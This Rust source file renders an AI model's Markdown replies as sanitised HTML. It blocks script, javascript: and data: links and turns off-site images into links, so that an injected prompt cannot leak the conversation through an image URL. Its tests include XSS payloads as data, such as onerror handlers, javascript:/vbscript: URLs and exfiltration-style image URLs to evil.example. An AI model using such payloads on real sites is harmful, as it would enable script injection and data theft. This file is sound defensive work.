//! Model replies as HTML: Markdown rendered on the server, made inert. Raw HTML in a reply is
//! shown as text, never as markup, and links may only point to http(s), mail or this site; the
//! rest of the output is escaped by the renderer. An image shows only from this site: any other
//! becomes a link to it, so that a reply (which a prompt can steer) cannot make the browser send
//! the conversation to another server by loading `![x](https://elsewhere/?q=…)`. The page's
//! Content-Security-Policy (`img-src 'self' data:`, no inline scripts) holds the same line.

use pulldown_cmark::{CowStr, Event, Options, Parser, Tag, TagEnd, html};
use pulldown_cmark_escape::{escape_href, escape_html};

/// Every link of a reply: opens no window handle, sends no referrer, earns no ranking.
const LINK_REL: &str = "noopener noreferrer nofollow";

pub fn to_html(text: &str) -> String {
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let mut events = Vec::new();
    // For each image being read, when it is written as a link: where its text starts, and its
    // address (the link's name if it has no description).
    let mut images: Vec<Option<(usize, CowStr<'_>)>> = Vec::new();
    for event in Parser::new_ext(text, options) {
        match event {
            Event::Html(raw) | Event::InlineHtml(raw) => events.push(Event::Text(raw)),
            Event::Start(Tag::Link { dest_url, title, .. }) => events.push(anchor(&safe_url(dest_url), &title)),
            Event::End(TagEnd::Link) => events.push(Event::Html("</a>".into())),
            Event::Start(Tag::Image { link_type, dest_url, title, id }) => {
                let address = dest_url.clone();
                let url = safe_url(dest_url);
                if on_this_site(&url) {
                    images.push(None);
                    events.push(Event::Start(Tag::Image { link_type, dest_url: url, title, id }));
                } else {
                    events.push(anchor(&url, &title));
                    images.push(Some((events.len(), address)));
                }
            }
            Event::End(TagEnd::Image) => match images.pop().flatten() {
                None => events.push(Event::End(TagEnd::Image)),
                Some((start, url)) => {
                    // An image without a description is a link named by its address.
                    if !events[start..].iter().any(|e| matches!(e, Event::Text(_) | Event::Code(_))) {
                        events.push(Event::Text(url));
                    }
                    events.push(Event::Html("</a>".into()));
                }
            },
            other => events.push(other),
        }
    }
    let mut out = String::with_capacity(text.len() * 3 / 2);
    html::push_html(&mut out, events.into_iter());
    out
}

/// The opening tag of a link to `url` (already made safe).
fn anchor(url: &str, title: &str) -> Event<'static> {
    let mut tag = String::from("<a href=\"");
    // Writing to a String cannot fail.
    let _ = escape_href(&mut tag, url);
    if !title.is_empty() {
        tag.push_str("\" title=\"");
        let _ = escape_html(&mut tag, title);
    }
    tag.push_str("\" rel=\"");
    tag.push_str(LINK_REL);
    tag.push_str("\">");
    Event::Html(tag.into())
}

/// `url` as a browser reads it: tabs and line breaks inside are dropped, leading controls and
/// spaces too (so `/\t/host` is `//host`, another server), and `\` is `/`.
fn as_read(url: &str) -> String {
    url.trim_start_matches(|c: char| c.is_ascii_control() || c == ' ')
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .map(|c| if c == '\\' { '/' } else { c.to_ascii_lowercase() })
        .collect()
}

/// A path of this site (not `//host`, which is another server).
fn on_this_site(url: &str) -> bool {
    let url = as_read(url);
    url.starts_with('/') && !url.starts_with("//")
}

/// `url` if its scheme is a harmless one (or it is a path or fragment of this site), else `#`.
fn safe_url(url: CowStr<'_>) -> CowStr<'_> {
    let read = as_read(&url);
    let safe = ["https://", "http://", "mailto:"].iter().any(|s| read.starts_with(s))
        || on_this_site(&url)
        || read.starts_with('#');
    if safe { url } else { CowStr::Borrowed("#") }
}

#[cfg(test)]
mod tests {
    use super::to_html;

    #[test]
    fn markdown_is_rendered() {
        let html = to_html(
            "# Title\n\n**bold** and `code`\n\n```rust\nfn main() {}\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n",
        );
        for part in [
            "<h1>Title</h1>",
            "<strong>bold</strong>",
            "<code>code</code>",
            "<pre><code class=\"language-rust\">",
            "<table>",
        ] {
            assert!(html.contains(part), "{part} in {html}");
        }
    }

    #[test]
    fn scripts_and_dangerous_links_are_inert() {
        let html = to_html(
            "<script>alert(1)</script>\n\nHi <img src=x onerror=alert(2)> [a](javascript:alert(3)) \
             [b](JaVaScRiPt:alert(4)) [c]( data:text/html,x) ![d](vbscript:x) [e](//evil.example) [ok](https://example.com)",
        );
        for bad in [
            "<script",
            "<img src=\"x\"",
            "<img src=x",
            "javascript:",
            "JaVaScRiPt:",
            "data:text",
            "vbscript:",
            "//evil",
        ] {
            assert!(!html.contains(bad), "{bad} in {html}");
        }
        assert!(html.contains("&lt;script&gt;") && html.contains("href=\"https://example.com\""), "{html}");
        let disguised = to_html("[x](/\\evil.example) [y](/&#9;/evil.example)");
        assert!(!disguised.contains("evil") && disguised.contains("href=\"#\""), "protocol-relative: {disguised}");
    }

    #[test]
    fn images_from_elsewhere_become_links() {
        let html = to_html(
            "![secret](https://evil.example/?q=secret) ![](http://evil.example/a.png \"t\") \
             ![x](//evil.example/b.png) ![y](/\\evil.example/c.png) ![*z*](/static/ok.png)",
        );
        assert_eq!(html.matches("<img").count(), 1, "{html}");
        assert!(html.contains("<img src=\"/static/ok.png\" alt=\"z\""), "{html}");
        assert!(
            html.contains("<a href=\"https://evil.example/?q=secret\" rel=\"noopener noreferrer nofollow\">secret</a>"),
            "{html}"
        );
        assert!(
            html.contains(
                "<a href=\"http://evil.example/a.png\" title=\"t\" rel=\"noopener noreferrer nofollow\">\
                 http://evil.example/a.png</a>"
            ),
            "an image without a description is named by its address: {html}"
        );
        let link = to_html("[a \"b\"](https://example.com/?a=1&b=\"2\" \"the <title>\")");
        assert!(
            link.contains(
                "<a href=\"https://example.com/?a=1&amp;b=%222%22\" title=\"the &lt;title&gt;\" \
                 rel=\"noopener noreferrer nofollow\">a \"b\"</a>"
            ),
            "{link}"
        );
    }
}
